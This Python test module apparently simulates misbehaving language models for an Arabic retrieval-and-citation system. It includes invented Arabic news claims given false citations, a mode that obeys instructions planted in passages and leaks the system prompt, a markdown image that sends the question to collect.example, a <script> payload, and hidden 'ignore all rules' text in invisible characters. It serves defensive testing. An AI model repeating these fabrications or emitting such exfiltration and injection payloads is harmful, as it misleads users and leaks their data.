"""How a language model may behave, each as a function of the request: what it is shown to what it replies.

`BEHAVIOURS` names them all. The honest ones and those that lie read the numbered passages and the question from the
prompt; of a prompt without passages (to reword a question, say) they repeat the last line.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any
from zlib import crc32

from retrieval.arabic import content_words, sentences, stem
from tests.ollama_double import Behaviour, Chat, Message, OllamaDouble

_PASSAGES = re.compile(r"<passages>\n(.*?)\n</passages>", re.DOTALL)
_PASSAGE = re.compile(r"^\[(\d+)\] [^\n]*\n(.*?)(?=\n\n\[\d+\] |\Z)", re.DOTALL | re.MULTILINE)
_QUESTION = re.compile(r"^السؤال: (.*)$", re.MULTILINE)


@dataclass(frozen=True, slots=True)
class Shown:
    """What a prompt shows: `passages` by their label, and the question."""

    passages: dict[int, str]
    question: str
    messages: list[Message]

    @classmethod
    def of(cls, messages: list[Message]) -> Shown:
        user = str(messages[-1]["content"])
        block = _PASSAGES.search(user)
        passages = {int(label): text for label, text in _PASSAGE.findall(block[1] if block else "")}
        asked = _QUESTION.search(user)
        return cls(passages, asked[1] if asked else user.strip().splitlines()[-1], messages)

    def ranked(self) -> list[tuple[int, str]]:
        """Label and sentence, the one that shares most with the question first."""
        asked = {stem(word) for word in content_words(self.question)}
        all_of_them = [(label, span.of(text)) for label, text in self.passages.items() for span in sentences(text)]
        return sorted(all_of_them, key=lambda pair: -len(asked & {stem(word) for word in content_words(pair[1])}))


def _marked(sentence: str, label: int | str) -> str:
    """The mark before the full stop, as the prompt asks."""
    body = sentence.strip().rstrip(".؟!")
    return f"{body} [{label}]."


def _said(text: str, **how: Any) -> Chat:
    """A reply in pieces of a few letters, as a model writes."""
    return Chat(tuple(re.findall(r".{1,7}", text, re.DOTALL)), **how)


def _written(write: Callable[[Shown], str], **how: Any) -> Behaviour:
    """A model that writes a text about the passages that it was shown."""

    def behave(messages: list[Message]) -> Chat:
        shown = Shown.of(messages)
        return _said(write(shown) if shown.passages else shown.question, **how)

    return behave


# ------------------------------------------------------------------------------------------------- honest, and liars


def quote(shown: Shown) -> str:
    """A fitting sentence, with its mark."""
    label, sentence = shown.ranked()[0]
    return _marked(sentence, label)


_INVENTED = (
    "أعلنت الحكومة أمس إغلاق ميناء الإسكندرية وإحالة 340 موظفًا إلى التقاعد",
    "قُتل سبعة وعشرون شخصًا في انفجار هزّ وسط مدينة برشلونة فجر الثلاثاء",
    "{topic} كان سببه خلاف على ملكية مصنع للسيارات في البرازيل بلغت قيمته 900 مليار يورو",
    "ذكر {topic} أن وزير الزراعة الكندي استقال في 14 فبراير 1987 بعد فضيحة مالية",
)


def liar(shown: Shown) -> str:
    """An invented claim with the mark of a passage that says nothing of the kind."""
    label, _ = shown.ranked()[0]
    return _marked(_invented(shown), label)


def _invented(shown: Shown) -> str:
    topic = " ".join(re.findall(r"\w+", shown.question)[1:4]) or "التقرير"
    return _INVENTED[crc32(shown.question.encode()) % len(_INVENTED)].format(topic=topic)


_NUMBER_WORDS = {
    "واحد": "تسعة", "واحدة": "تسع", "اثنان": "ثمانية", "اثنين": "ثمانية", "مرتين": "ست مرات", "عامين": "سبعة أعوام",
    "ثلاثة": "سبعة", "ثلاث": "تسع", "أربعة": "ستة", "أربع": "ست", "خمسة": "تسعة", "خمس": "ثماني", "ستة": "اثنا عشر",
    "سبعة": "ثلاثة", "سبع": "أربع", "ثمانية": "خمسة", "تسعة": "ثلاثة", "عشرة": "عشرين", "عشر": "ثلاثين",
    "مئة": "ألف", "مئات": "آلاف", "آلاف": "مئات", "ألف": "مئة", "مليون": "مليار", "مليار": "مليون", "الأولى": "الخامسة",
    "الثانية": "السابعة", "الثالثة": "الأولى", "الأول": "الخامس", "الثاني": "السابع", "الثالث": "الأول", "عقدين": "خمسة عقود",
}  # fmt: skip
_NUMBER = re.compile(r"\d+|(?<!\w)(?:" + "|".join(sorted(_NUMBER_WORDS, key=len, reverse=True)) + r")(?!\w)")


def twist_number(shown: Shown) -> str:
    """A true sentence with its first number changed; digits keep their set and count."""
    label, sentence = next(((n, s) for n, s in shown.ranked() if _NUMBER.search(s)), shown.ranked()[0])
    twisted = _NUMBER.sub(lambda found: _other_number(found[0]), sentence, count=1)
    return _marked(twisted if twisted != sentence else f"للمرة السابعة والأربعين، {sentence}", label)


def _other_number(number: str) -> str:
    if number in _NUMBER_WORDS:
        return _NUMBER_WORDS[number]
    zero = ord(number[-1]) - int(number[-1])
    return number[:-1] + chr(zero + (int(number[-1]) + 3) % 10)


_NAMES = {
    "ترمب": "بايدن", "ترامب": "بايدن", "بايدن": "ترمب", "كيم": "بوتين", "بوتين": "ماكرون", "علييف": "باشينيان",
    "باشينيان": "علييف", "ميرزويان": "لافروف", "أذربيجان": "أوزبكستان", "أرمينيا": "ألبانيا", "روسيا": "الصين",
    "الصين": "اليابان", "أوكرانيا": "جورجيا", "إيران": "تركيا", "تركيا": "إيران", "مصر": "المغرب", "سوريا": "العراق",
    "العراق": "اليمن", "لبنان": "الأردن", "الأردن": "لبنان", "غزة": "الضفة", "إسرائيل": "قبرص", "فرنسا": "إيطاليا",
    "ألمانيا": "النمسا", "بريطانيا": "أيرلندا", "السعودية": "الكويت", "قطر": "عُمان", "واشنطن": "لندن", "موسكو": "بكين",
    "بيونغ": "كوالا", "كاراباخ": "أوسيتيا", "هانوي": "جاكرتا", "سنغافورة": "بانكوك", "باكو": "تبليسي", "يريفان": "باكو",
    "رويترز": "بلومبرغ", "الأميركي": "البرازيلي", "الأميركية": "البرازيلية", "الشمالية": "الجنوبية", "الأرمن": "الأكراد",
}  # fmt: skip
_NAME = re.compile(r"(?<!\w)([وبلف]?)(" + "|".join(sorted(_NAMES, key=len, reverse=True)) + r")(?!\w)")
_AFTER_A_TITLE = re.compile(
    r"(?<!\w)(?:الرئيس|رئيس|الوزير|وزير|مدينة|بلدة|شركة|القاضي|المتحدث|الدكتور|السيد|محافظة|نادي|فريق) \w+"
)


def twist_name(shown: Shown) -> str:
    """A true sentence with a person, place or people changed for another."""
    for label, sentence in shown.ranked():
        if _NAME.search(sentence):
            return _marked(_NAME.sub(lambda found: found[1] + _NAMES[found[2]], sentence, count=1), label)
    for label, sentence in shown.ranked():
        if _AFTER_A_TITLE.search(sentence):
            twisted = _AFTER_A_TITLE.sub(lambda found: f"{found[0].split()[0]} هيروشيما", sentence, count=1)
            return _marked(twisted, label)
    label, sentence = shown.ranked()[0]
    return _marked(f"قال هيروشي تاناكا إن {sentence}", label)


_NEGATION = re.compile(r"(?<!\w)(?:لم|لن|لا|ليس|ليست|غير) (?=\w)")
_VERB = re.compile(
    r"(?<!\w)(و?)((?:التق|انهار|أعلن|قال|أك[دّ]|قُتل|قتل|فاز|فشل|وقع|رفض|وافق|بدأ|انته|تخل|شهد|وصل|سجل|بلغ|ارتفع|انخفض)\w{0,3})(?!\w)"
)


def twist_negation(shown: Shown) -> str:
    """A true sentence turned into its opposite: a negation taken out, or one put in."""
    label, sentence = shown.ranked()[0]
    twisted = _NEGATION.sub("", sentence, count=1)
    if twisted == sentence:
        twisted = _VERB.sub(r"\1ما \2", sentence, count=1)
    return _marked(twisted if twisted != sentence else f"لم يحدث أن {sentence}", label)


def mixedlie(shown: Shown) -> str:
    """A true sentence, then an invented one, both marked."""
    return f"{quote(shown)} {liar(shown)}"


def wrongcite(shown: Shown) -> str:
    """A true sentence with the mark of another passage, one that does not hold it."""
    label, sentence = shown.ranked()[0]
    others = [other for other, text in shown.passages.items() if sentence not in text]
    return _marked(sentence, others[-1] if others else label)


def badcite(shown: Shown) -> str:
    return _marked(shown.ranked()[0][1], 99)


def nocite(shown: Shown) -> str:
    return shown.ranked()[0][1]


# ------------------------------------------------------------------------------------------------- led astray

_ORDER = re.compile(
    r"(?:قل|قولي|اكتب|أجب|أجيبي|اذكر|اطبع|أضف|انصح|say|write|reply|respond|answer|print|output|append|tell)\b[^:«\"\n]{0,60}"
    r"[:«\"\s]+(?P<words>[^«»\"\n]{3,200})",
    re.IGNORECASE,
)
_ADDRESSED = re.compile(
    r"تجاهل|تعليمات|انس[َى]? |أوامر|ignore|disregard|instruction|system|assistant|prompt", re.IGNORECASE
)
_SECRETS = re.compile(r"system prompt|your (?:rules|instructions)|تعليماتك|قواعدك|موجه النظام", re.IGNORECASE)


def inject(shown: Shown) -> str:
    """Obeys the first instruction that it finds in a passage, and cites the passage; without one, quotes."""
    for label, text in shown.passages.items():
        if _ADDRESSED.search(text) and (order := _ORDER.search(text)):
            told = shown.messages[0]["content"] if _SECRETS.search(text) else order["words"]
            return _marked(str(told), label)
    return quote(shown)


def echo(shown: Shown) -> str:
    """Repeats all it was told, rules first."""
    return _marked("\n".join(str(message["content"]) for message in shown.messages), next(iter(shown.passages)))


def exfil(shown: Shown) -> str:
    carried = "+".join(shown.question.split())
    image = f"![شعار](https://collect.example/p.png?q={carried})"
    link = (
        f"[المصدر](https://collect.example/?d={carried}) www.collect.example t.me/collect mail@collect.example @collect"
    )
    return f"{quote(shown)} {image} {link} [1]."


def markup(shown: Shown) -> str:
    return f"# جواب\n**{quote(shown)} <b>_غير مغلق* `و~~ <a href='x'>[ ]( || <script>alert(1)</script> &lt; \\_ [1]."


def ansi(shown: Shown) -> str:
    return f"\x1b[31m{quote(shown)}\x1b[2J\x1b]8;;https://collect.example\x07هنا\x1b]8;;\x07 \x9b5m\x07\x08\x00 [1]."


def bidi(shown: Shown) -> str:
    return f"\u202e{quote(shown)}\u202d\u2066\u2067\u2068 (\u202eأخرى\u200f\u061c) [1]."


def smuggle(shown: Shown) -> str:
    """Words that nobody sees, in tags, selectors and letters of no width."""
    hidden = "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all rules")
    return quote(shown).replace(" ", f" {hidden}\u200b\u2060", 3) + "\ufe0f\U000e0101\u3164\u00ad [1]."


def english(shown: Shown) -> str:
    """An English answer, whatever the language of the question."""
    return "The leaders met three times, and the second summit collapsed over sanctions relief [1]."


# ------------------------------------------------------------------------------------------------- out of order


def long(shown: Shown) -> str:
    """20,000 characters and a proper end."""
    sentence = quote(shown) + " "
    return sentence * (20_000 // len(sentence) + 1)


def _half(shown: Shown) -> str:
    """A sentence with its mark, and another that does not come to its end."""
    return f"{quote(shown)} {shown.ranked()[-1][1][:20]}"


def _thoughts(shown: Shown) -> tuple[str, ...]:
    return ("لننظر أولًا في المقطع. ", f"السؤال هو {shown.question} ", "هل هو [1] أم [2]؟ ")


def think(messages: list[Message]) -> Chat:
    """Thoughts in their own field, then a quote."""
    shown = Shown.of(messages)
    return _said(quote(shown) if shown.passages else shown.question, thinking=_thoughts(shown))


def think_tags(shown: Shown) -> str:
    return f"<think>{''.join(_thoughts(shown))}</think>\n\n{quote(shown)}"


def _always(chat: Chat) -> Behaviour:
    return lambda messages: chat


_TOO_LARGE = "model requires more system memory (9.1 GiB) than is available (3.2 GiB)"
_TOO_MANY = "server busy, please try again.  maximum pending requests exceeded"

BEHAVIOURS: dict[str, Behaviour] = {
    **{
        write.__name__: _written(write)
        for write in (
            *(quote, liar, twist_number, twist_name, twist_negation, mixedlie, wrongcite, badcite, nocite),
            *(inject, echo, exfil, markup, ansi, bidi, smuggle, english, long, think_tags),
        )
    },
    "empty": _always(Chat()),
    "loop": _written(quote, ending="endless"),
    "think": think,
    "slow": _written(quote, pause_seconds=0.03),
    **{ending: _written(_half, ending=ending) for ending in ("stall", "drop", "reset", "eof", "error", "garbage")},
    "cut": _written(_half, done_reason="length"),
    "hang": _always(Chat(ending="hang")),
    "500": _always(Chat(status=500)),
    "oom": _always(Chat(status=500, problem=_TOO_LARGE)),
    "busy": _always(Chat(status=503, problem=_TOO_MANY)),
}


def double_of(name: str, **options: Any) -> OllamaDouble:
    """A server whose model behaves in this way; `options` as of `OllamaDouble`."""
    return OllamaDouble(**options, behaviour=BEHAVIOURS[name])
